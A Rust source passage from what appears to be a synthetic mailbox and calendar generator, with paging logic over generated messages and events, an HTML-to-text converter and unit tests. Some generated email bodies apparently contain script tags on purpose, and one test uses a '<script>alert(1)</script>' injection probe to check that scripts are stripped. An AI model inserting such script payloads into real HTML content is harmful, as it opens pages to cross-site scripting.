            let key = ItemKey { owner: owner as u32, source: ItemKey::MEETING, index, part };
            let mut r = Rng::new(org.seed, &[0xe7e5, mailbox as u64, owner as u64, index as u64, part as u64]);
            out.push(Message {
                key,
                mailbox,
                folder,
                subject,
                body_html: body_html(&mut r, "all", &from.name, false),
                sensitivity: "normal",
                internet_message_id: internet_message_id(org, &key, &from),
                from,
                to,
                cc: vec![],
                bcc: vec![],
                sent: at,
                received: at + Duration::seconds(3),
                conversation_id: format!(
                    "AAQkAD{}",
                    b64(&hash(org.seed, &[0xe7c, owner as u64, index as u64]).to_be_bytes())
                ),
                is_read: r.chance(70),
                is_draft: false,
                importance: "normal",
                has_attachments: false,
                inference: "focused",
                categories: vec![],
                meeting: Some(MeetingMessage {
                    kind,
                    start,
                    end,
                    is_all_day: spec.all_day_days > 0,
                    location: spec.location.clone(),
                    meeting_index: index,
                    meeting_owner: owner as u32,
                }),
                version: 0,
                raw: None,
            });
        };
    if response != "organizer" {
        // Attendees receive the invitation, and a cancellation if there is one.
        push(0, "meetingRequest", organizer.clone(), to.clone(), spec.subject.clone(), spec.created, FolderKind::Inbox);
        if spec.kind == MeetingKind::Cancelled {
            let at = (start - Duration::days(1)).max(spec.created + Duration::hours(2));
            push(
                1,
                "meetingCancelled",
                organizer.clone(),
                to.clone(),
                format!("Canceled: {}", spec.subject),
                at,
                FolderKind::Inbox,
            );
        }
    } else {
        // The organiser receives the answers of external attendees.
        for (n, (party, _, answer)) in spec.attendees.iter().enumerate() {
            let Party::External(person) = party else {
                continue;
            };
            let (kind, verb) = match *answer {
                "accepted" => ("meetingAccepted", "Accepted"),
                "tentativelyAccepted" => ("meetingTenativelyAccepted", "Tentative"),
                "declined" => ("meetingDeclined", "Declined"),
                _ => continue,
            };
            let from = Address { name: person.name.clone(), address: person.address.clone() };
            let at = spec.created + Duration::hours(1 + n as i64);
            push(
                2 + n as u16,
                kind,
                from,
                vec![organizer.clone()],
                format!("{verb}: {}", spec.subject),
                at,
                FolderKind::Inbox,
            );
        }
    }
}

// --- the mailbox view --------------------------------------------------------

/// Read access to the generated mail and calendars of one organisation.
#[derive(Debug, Clone)]
pub struct Corpus<'a> {
    pub org: &'a Organization,
    pub size: &'a OrgSize,
    pub anchor: DateTime<Utc>,
}

impl<'a> Corpus<'a> {
    /// The owners whose conversations can reach `mailbox`: its team, in order.
    fn owners(&self, mailbox: usize) -> std::ops::Range<usize> {
        self.org.team_of(mailbox)
    }

    /// Generated messages of `mailbox` with keys after `after` (or from the
    /// start), in key order, stopping once `limit` messages are collected or
    /// `budget` sources have been examined. Returns the messages and whether the
    /// enumeration reached the end.
    pub fn messages_after(
        &self,
        mailbox: usize,
        after: Option<ItemKey>,
        limit: usize,
        keep: &mut dyn FnMut(&Message) -> bool,
    ) -> (Vec<Message>, bool) {
        let mut out = Vec::new();
        if !self.org.users.get(mailbox).is_some_and(|u| u.has_mailbox) {
            return (out, true);
        }
        let conversations = self.size.conversations_per_mailbox();
        let meetings = self.size.meetings_per_mailbox();
        let start = after.unwrap_or(ItemKey::MIN);
        let mut buffer = Vec::new();
        for owner in self.owners(mailbox) {
            if (owner as u32) < start.owner || !self.org.users[owner].has_mailbox {
                continue;
            }
            for source in [ItemKey::CONVERSATION, ItemKey::MEETING] {
                let same_prefix = owner as u32 == start.owner;
                if same_prefix && source < start.source {
                    continue;
                }
                let first = if same_prefix && source == start.source { start.index } else { 0 };
                let count = if source == ItemKey::CONVERSATION { conversations } else { meetings };
                for index in first..count {
                    buffer.clear();
                    if source == ItemKey::CONVERSATION {
                        conversation_copies(self.org, self.size, self.anchor, owner, index, mailbox, &mut buffer);
                    } else {
                        meeting_messages(self.org, self.anchor, owner, index, mailbox, &mut buffer);
                    }
                    for m in buffer.drain(..) {
                        if after.is_some_and(|a| m.key <= a) || !keep(&m) {
                            continue;
                        }
                        out.push(m);
                        // Stop mid-conversation if need be: the next call resumes after this key.
                        if out.len() >= limit {
                            return (out, false);
                        }
                    }
                }
            }
        }
        (out, true)
    }

    /// One generated message of `mailbox`, if it exists.
    pub fn message(&self, mailbox: usize, key: ItemKey) -> Option<Message> {
        let mut buffer = Vec::new();
        let owner = key.owner as usize;
        if owner >= self.org.users.len() || !self.owners(mailbox).contains(&owner) {
            return None;
        }
        match key.source {
            ItemKey::CONVERSATION if key.index < self.size.conversations_per_mailbox() => {
                conversation_copies(self.org, self.size, self.anchor, owner, key.index, mailbox, &mut buffer)
            }
            ItemKey::MEETING if key.index < self.size.meetings_per_mailbox() => {
                meeting_messages(self.org, self.anchor, owner, key.index, mailbox, &mut buffer)
            }
            _ => return None,
        }
        buffer.into_iter().find(|m| m.key == key)
    }

    /// Generated calendar items of `mailbox` after `after`, in key order: single
    /// meetings and expanded occurrences (series masters are not listed, as in
    /// calendarView). `keep` filters; enumeration stops at `limit` items.
    pub fn events_after(
        &self,
        mailbox: usize,
        after: Option<EventKey>,
        limit: usize,
        keep: &mut dyn FnMut(&Event) -> bool,
    ) -> (Vec<Event>, bool) {
        let mut out = Vec::new();
        if !self.org.users.get(mailbox).is_some_and(|u| u.has_mailbox) {
            return (out, true);
        }
        let start = after.unwrap_or(EventKey::MIN);
        for owner in self.owners(mailbox) {
            if (owner as u32) < start.owner || !self.org.users[owner].has_mailbox {
                continue;
            }
            let first = if owner as u32 == start.owner { start.index } else { 0 };
            for index in first..self.size.meetings_per_mailbox() {
                let spec = meeting(self.org, self.anchor, owner, index);
                let Some(response) = spec.takes_part(mailbox) else {
                    continue;
                };
                for n in 0..spec.occurrences {
                    let key = EventKey { owner: owner as u32, source: ItemKey::MEETING, index, occurrence: n };
                    if after.is_some_and(|a| key <= a) {
                        continue;
                    }
                    if let Some(e) = event_from_spec(self.org, &spec, owner, index, mailbox, response, n)
                        && keep(&e)
                    {
                        out.push(e);
                        if out.len() >= limit {
                            return (out, false);
                        }
                    }
                }
            }
        }
        (out, true)
    }

    /// One generated calendar item (or series master) of `mailbox`.
    pub fn event(&self, mailbox: usize, key: EventKey) -> Option<Event> {
        let owner = key.owner as usize;
        if key.source != ItemKey::MEETING
            || owner >= self.org.users.len()
            || !self.owners(mailbox).contains(&owner)
            || key.index >= self.size.meetings_per_mailbox()
            || !self.org.users.get(mailbox).is_some_and(|u| u.has_mailbox)
        {
            return None;
        }
        let spec = meeting(self.org, self.anchor, owner, key.index);
        let response = spec.takes_part(mailbox)?;
        if key.occurrence == EventKey::MASTER {
            if spec.occurrences < 2 {
                return None;
            }
        } else if key.occurrence >= spec.occurrences {
            return None;
        }
        event_from_spec(self.org, &spec, owner, key.index, mailbox, response, key.occurrence)
    }

    /// The user behind a mailbox index.
    pub fn user(&self, mailbox: usize) -> Option<&'a User> {
        self.org.users.get(mailbox)
    }
}

/// Base64 (standard alphabet, padded), the look of Exchange ids.
pub fn b64(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// Plain text of an HTML body: tags dropped, entities for `&<>` decoded,
/// whitespace collapsed. Scripts and styles are dropped with their content.
pub fn html_to_text(html: &str) -> String {
    let mut out = String::with_capacity(html.len() / 2);
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        out.push_str(&rest[..open]);
        let after = &rest[open..];
        let lower_start: String = after.chars().take(8).collect::<String>().to_ascii_lowercase();
        let skip_to = if lower_start.starts_with("<script") {
            after.to_ascii_lowercase().find("</script>").map(|i| i + 9)
        } else if lower_start.starts_with("<style") {
            after.to_ascii_lowercase().find("</style>").map(|i| i + 8)
        } else {
            None
        };
        let end = match skip_to {
            Some(i) => i,
            None => match after.find('>') {
                Some(i) => i + 1,
                None => after.len(),
            },
        };
        let tag = &after[..end.min(after.len())].to_ascii_lowercase();
        if tag.starts_with("<p") || tag.starts_with("<br") || tag.starts_with("</p") || tag.starts_with("<div") {
            out.push(' ');
        }
        rest = &after[end.min(after.len())..];
    }
    out.push_str(rest);
    let decoded = out.replace("&lt;", "<").replace("&gt;", ">").replace("&nbsp;", " ").replace("&amp;", "&");
    decoded.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::default_anchor;
    use chrono::Timelike;

    fn small() -> (Organization, OrgSize) {
        (Organization::generate(42, &OrgSize::Small), OrgSize::Small)
    }

    #[test]
    fn a_message_between_colleagues_is_in_both_mailboxes_with_one_message_id() {
        let (org, size) = small();
        let corpus = Corpus { org: &org, size: &size, anchor: default_anchor() };
        let mut ids_by_mailbox = Vec::new();
        for u in 0..org.users.len() {
            let (msgs, done) = corpus.messages_after(u, None, usize::MAX, &mut |_| true);
            assert!(done);
            ids_by_mailbox
                .push(msgs.into_iter().map(|m| m.internet_message_id).collect::<std::collections::HashSet<_>>());
        }
        let shared = (0..org.users.len())
            .flat_map(|a| (0..org.users.len()).map(move |b| (a, b)))
            .filter(|(a, b)| a < b)
            .any(|(a, b)| !ids_by_mailbox[a].is_disjoint(&ids_by_mailbox[b]));
        assert!(shared, "some internetMessageId appears in two mailboxes");
    }

    #[test]
    fn enumeration_resumes_after_any_key_without_gaps_or_repeats() {
        let (org, size) = small();
        let corpus = Corpus { org: &org, size: &size, anchor: default_anchor() };
        let (all, _) = corpus.messages_after(1, None, usize::MAX, &mut |_| true);
        let mut paged = Vec::new();
        let mut after = None;
        loop {
            let (page, done) = corpus.messages_after(1, after, 7, &mut |_| true);
            after = page.last().map(|m| m.key).or(after);
            paged.extend(page);
            if done {
                break;
            }
        }
        assert_eq!(paged.len(), all.len());
        assert!(paged.iter().zip(&all).all(|(a, b)| a.key == b.key));
        assert!(all.windows(2).all(|w| w[0].key < w[1].key), "keys ascend");
    }

    #[test]
    fn messages_can_be_rebuilt_from_their_key() {
        let (org, size) = small();
        let corpus = Corpus { org: &org, size: &size, anchor: default_anchor() };
        let (all, _) = corpus.messages_after(2, None, 50, &mut |_| true);
        for m in all {
            assert_eq!(corpus.message(2, m.key).as_ref(), Some(&m));
        }
    }

    #[test]
    fn the_organisation_has_every_kind_of_item() {
        let (org, size) = small();
        let corpus = Corpus { org: &org, size: &size, anchor: default_anchor() };
        let mut messages = Vec::new();
        let mut events = Vec::new();
        for u in 0..org.users.len() {
            messages.extend(corpus.messages_after(u, None, usize::MAX, &mut |_| true).0);
            events.extend(corpus.events_after(u, None, usize::MAX, &mut |_| true).0);
        }
        assert!(messages.iter().any(|m| { m.meeting.as_ref().is_some_and(|x| x.kind == "meetingRequest") }));
        assert!(messages.iter().any(|m| { m.meeting.as_ref().is_some_and(|x| x.kind == "meetingCancelled") }));
        assert!(messages.iter().any(|m| m.body_html.contains("<script")));
        assert!(messages.iter().any(|m| m.from.address.starts_with("/o=ExchangeLabs")));
        assert!(messages.iter().any(|m| m.folder == FolderKind::KeyAccounts));
        assert!(messages.iter().any(|m| m.from.address.contains("no-reply") || m.from.address.contains("noreply")));
        assert!(events.iter().any(|e| e.kind == "exception"));
        assert!(events.iter().any(|e| e.kind == "occurrence" && e.is_cancelled));
        assert!(events.iter().any(|e| e.is_all_day));
        assert!(events.iter().any(|e| e.sensitivity == "private"));
        assert!(events.iter().any(|e| e.join_url.is_some()));
        let zones: std::collections::HashSet<_> = events.iter().map(|e| e.original_zone.name).collect();
        assert!(zones.len() >= 3, "several time zones: {zones:?}");
        let uids: std::collections::HashMap<_, usize> = events.iter().fold(Default::default(), |mut acc, e| {
            *acc.entry(e.ical_uid.clone()).or_default() += 1;
            acc
        });
        assert!(uids.values().any(|&n| n > 1), "a meeting is in several calendars");
    }

    #[test]
    fn recurring_meetings_keep_their_local_time_across_daylight_saving() {
        let (org, size) = small();
        let corpus = Corpus { org: &org, size: &size, anchor: default_anchor() };
        for u in 0..org.users.len() {
            for e in corpus.events_after(u, None, usize::MAX, &mut |_| true).0 {
                if e.kind == "occurrence" {
                    let local = e.start.with_timezone(&e.original_zone.tz);
                    assert!(local.minute() == 0 || local.minute() == 30);
                    assert!((8..=17).contains(&local.hour()), "{} at {}", e.subject, local);
                }
            }
        }
    }

    #[test]
    fn html_to_text_drops_markup_and_scripts() {
        let text = html_to_text("<html><body><p>Hi &amp; welcome</p><script>alert(1)</script><p>Bye</p></body></html>");
        assert_eq!(text, "Hi & welcome Bye");
    }
}
